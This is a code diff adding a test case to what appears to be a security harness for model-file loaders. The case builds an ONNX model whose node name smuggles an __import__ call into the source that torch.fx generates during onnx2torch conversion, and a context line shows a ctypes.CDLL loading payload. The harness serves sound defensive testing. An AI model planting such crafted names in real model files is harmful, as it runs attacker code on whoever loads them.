@@ -121,6 +121,29 @@ def lay_engine_context(arena: Arena) -> Hostile | None:
     return Hostile(f"onnx:{path}", f"import ctypes\nctypes.CDLL({os.fspath(code)!r})")
 
 
+@attack("model", "ONNX: a name of a node that is source text")
+def lay_node_name(arena: Arena) -> Hostile:
+    """torch.fx writes ``getattr(self, "NAME")`` into the source of its modules."""
+    import numpy as np
+    from onnx import TensorProto, helper, numpy_helper
+
+    name = f'training"), __import__("{TRAPPED}"), getattr(self, "to'
+    weight = numpy_helper.from_array(np.ones((5, 3, 1, 1), np.float32), "weight")
+    node = helper.make_node("Conv", ["image", "weight"], ["logits"], name=name)
+    image, logits = (
+        helper.make_tensor_value_info(name, TensorProto.FLOAT, [1, channels, 8, 8])
+        for name, channels in (("image", 3), ("logits", 5))
+    )
+    graph = helper.make_graph([node], "graph", [image], [logits], [weight])
+    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], ir_version=8)
+    path = os.fspath(arena.write("model.onnx", model.SerializeToString()))
+    control = (
+        "import onnx, onnx2torch, torch\n"
+        f"onnx2torch.convert(onnx.load({path!r}))(torch.zeros(1, 3, 8, 8))"
+    )
+    return Hostile(f"onnx:{path}", control)
+
+
 @attack("model", "ONNX: OpenVINO's own format under another name")
 def lay_openvino(arena: Arena) -> Hostile:
     xml = """<?xml version="1.0"?><net name="x" version="11"><layers>
